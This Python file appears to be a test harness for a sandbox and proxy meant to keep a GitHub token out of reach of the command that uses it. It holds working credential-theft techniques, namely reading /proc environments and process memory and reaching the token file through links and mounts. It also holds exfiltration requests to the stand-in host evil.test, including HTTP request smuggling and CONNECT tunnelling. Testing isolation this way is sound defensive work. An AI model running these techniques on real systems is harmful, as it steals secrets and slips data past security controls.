"""Attacks on a secret that its command uses and does not see: all are played in one command, bare (the secret is in the
environment) and inside. Each returns what it has found, or sends it to a server where it should not be."""
import base64
import contextlib
import ctypes
import glob
import hashlib
import json
import os
import re
import socket
import ssl
import subprocess
import sys

ATTACKS = []
TOKEN = os.environ.get("GH_TOKEN", "")
FILE = os.environ.get("KEPT_FILE", "")
SHAPE = re.compile(rb"gh[p]_[0-9A-Za-z]{36,}")


def attack(function):
    ATTACKS.append(function.__name__)
    return function


def read(path):
    with contextlib.suppress(OSError), open(path, "rb") as file:
        return file.read(1 << 22)
    return b""


# --- what lies about here

@attack
def variable():
    return TOKEN


@attack
def variable_of_another_name():
    return os.environ["COPY_OF_IT"]


@attack
def variable_with_more_in_it():
    return os.environ["A_URL"]


@attack
def variable_in_base64():
    return base64.b64decode(os.environ["BASIC_AUTH"].split()[1])


@attack
def variable_given_by_an_option():
    return os.environ["GIVEN"]


@attack
def own_environ():
    return read("/proc/self/environ")


@attack
def environ_of_all():
    return b"".join(map(read, glob.glob("/proc/[0-9]*/environ")))


@attack
def environ_by_task():
    return b"".join(map(read, glob.glob("/proc/[0-9]*/task/*/environ")))


def memory(process):
    found = b""
    with contextlib.suppress(OSError), open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as mem:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if "rw" in line.split()[1] and end - start < 1 << 25:
                with contextlib.suppress(OSError, ValueError, OverflowError):
                    mem.seek(start)
                    found += b"\n".join(SHAPE.findall(mem.read(end - start)))
    return found


@attack
def memory_of_all():
    return b"".join(memory(path.split("/")[2]) for path in glob.glob("/proc/[0-9]*/maps"))


@attack
def memory_by_system_call():
    """process_vm_readv(2), of our parent: what its auxiliary vector's stack says."""
    found = b""
    libc = ctypes.CDLL(None)
    for process in {os.getppid(), 1, os.getpid()}:
        for line in read(f"/proc/{process}/maps").decode().splitlines():
            if "[stack]" not in line:
                continue
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            block = ctypes.create_string_buffer(end - start)
            here = (ctypes.c_size_t * 2)(ctypes.addressof(block), end - start)
            there = (ctypes.c_size_t * 2)(start, end - start)
            libc.process_vm_readv(process, here, 1, there, 1, 0)
            found += block.raw
    return found


@attack
def files_that_are_open():
    """Of every process that lets us: the policy of the proxy is an anonymous file."""
    with contextlib.suppress(OSError):
        os.open(FILE, os.O_RDONLY)  # ours is one of them
    return b"".join(read(path) for path in glob.glob("/proc/[0-9]*/fd/*") if os.path.isfile(path))


# --- the file of one

@attack
def file_itself():
    return read(FILE)


@attack
def file_by_a_link():
    os.symlink(FILE, "link")
    return read("link")


@attack
def file_by_another_root():
    return read(f"/proc/self/root{FILE}") + read(f"/proc/{os.getppid()}/root{FILE}")


@attack
def file_by_a_hard_link():
    with contextlib.suppress(OSError):
        os.link(FILE, "hard")
    return read("hard")


@attack
def file_by_a_rename():
    with contextlib.suppress(OSError):
        os.rename(FILE, FILE + ".new")
        os.rename(FILE + ".new", FILE)
    return read(FILE + ".new") + read(FILE)


@attack
def file_by_a_mount():
    return subprocess.run(["unshare", "-rm", "sh", "-c", f"umount -l {FILE} 2>/dev/null; mount --bind {os.path.dirname(FILE)} /mnt; "
                           f"cat /mnt/{os.path.basename(FILE)} {FILE}"], capture_output=True, check=False).stdout


# --- by the network, to whom it is not for

def send(name, head, host="good.test", port=443, sni="good.test", first=b""):
    """Sends a request, and says what came back; the servers write down what came to them."""
    got = b""
    with contextlib.suppress(OSError), socket.create_connection((host, port), 10) as plain:
        stream = plain
        if first:
            plain.sendall(first)
            while b"\r\n\r\n" not in got and (block := plain.recv(4096)):
                got += block
        if sni:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            stream = context.wrap_socket(plain, server_hostname=sni)
        stream.settimeout(10)
        stream.sendall(head.replace("\n", "\r\n").replace("PATH", f"/token-{name}").encode())
        while stream.recv(4096):  # whatever it is: then what was sent has come
            pass


def key(value=TOKEN):
    return f"X-Key: {value}\nConnection: close\n\n"


@attack
def another_host():
    send("another_host", f"GET PATH HTTP/1.1\nHost: evil.test\n{key()}", "evil.test", sni="evil.test")


@attack
def another_host_in_the_hello():
    send("another_host_in_the_hello", f"GET PATH HTTP/1.1\nHost: evil.test\n{key()}", "good.test", sni="evil.test")


@attack
def this_host_in_the_hello_of_another():
    send("this_host_in_the_hello_of_another", f"GET PATH HTTP/1.1\nHost: good.test\n{key()}", "evil.test", sni="good.test")


@attack
def another_host_in_the_request():
    send("another_host_in_the_request", f"GET PATH HTTP/1.1\nHost: evil.test\n{key()}")


@attack
def another_host_by_a_whole_url():
    send("another_host_by_a_whole_url", f"GET http://evil.test/token-another_host_by_a_whole_url HTTP/1.1\nHost: evil.test\n{key()}")


@attack
def without_tls():
    send("without_tls", f"GET PATH HTTP/1.1\nHost: good.test\n{key()}", port=80, sni="")


@attack
def without_tls_at_its_port():
    send("without_tls_at_its_port", f"GET PATH HTTP/1.1\nHost: good.test\n{key()}", port=8080, sni="")


@attack
def in_the_path():
    send("in_the_path", f"GET PATH/{TOKEN} HTTP/1.1\nHost: good.test\nConnection: close\n\n")


@attack
def in_the_query():
    send("in_the_query", f"GET PATH?key={TOKEN} HTTP/1.1\nHost: good.test\nConnection: close\n\n")


@attack
def in_the_body():
    send("in_the_body", f"POST PATH HTTP/1.1\nHost: good.test\nContent-Length: {len(TOKEN)}\nConnection: close\n\n{TOKEN}")


@attack
def in_chunks():
    send("in_chunks", f"POST PATH HTTP/1.1\nHost: good.test\nTransfer-Encoding: chunked\nConnection: close\n\n{len(TOKEN):x}\n{TOKEN}\n0\n\n")


@attack
def in_the_name_of_a_field():
    send("in_the_name_of_a_field", f"GET PATH HTTP/1.1\nHost: good.test\nX-{TOKEN}: x\nConnection: close\n\n")


@attack
def behind_a_request():
    """Another request in the same bytes, for whom the proxy might not judge."""
    inner = f"GET /token-behind_a_request HTTP/1.1\nHost: evil.test\n{key()}"
    send("first", f"GET /first HTTP/1.1\nHost: good.test\n\n{inner}")


@attack
def smuggled_by_two_lengths():
    inner = f"POST /token-smuggled_by_two_lengths HTTP/1.1\nHost: evil.test\n{key()}"
    send("first", f"POST /token-smuggled_by_two_lengths HTTP/1.1\nHost: good.test\nX-Mine: {TOKEN}\nContent-Length: 5\n"
                  f"Transfer-Encoding: chunked\nConnection: close\n\n0\n\n{inner}")


@attack
def by_number():
    send("by_number", f"GET PATH HTTP/1.1\nHost: good.test\n{key()}", "11.0.0.1")


@attack
def tunnel_to_another_host():
    send("tunnel_to_another_host", f"GET PATH HTTP/1.1\nHost: good.test\n{key()}", *WAY, sni="good.test",
         first=b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n" if IS_INSIDE else b"")


@attack
def in_base64_of_its_own():
    """Another scheme than Basic, which nobody looks into."""
    value = "token=" + base64.b64encode(f"x{TOKEN}".encode()).decode()
    send("in_base64_of_its_own", f"GET PATH HTTP/1.1\nHost: good.test\nX-Key: {value}\nConnection: close\n\n")


IS_INSIDE = "CORDON_SANDBOX" in os.environ
WAY = ("127.0.0.1", 1008) if IS_INSIDE else ("evil.test", 443)


def main():
    found = {}
    for name in ATTACKS:
        try:
            result = globals()[name]() or b""
        except (OSError, KeyError, ValueError) as error:
            result = repr(error)
        text = result.encode() if isinstance(result, str) else result
        # who is told knows what it is by that, and nobody finds it there again
        found[name] = [hashlib.sha256(secret).hexdigest() for secret in SHAPE.findall(text)]
    print(json.dumps(found))


if __name__ == "__main__":
    main()
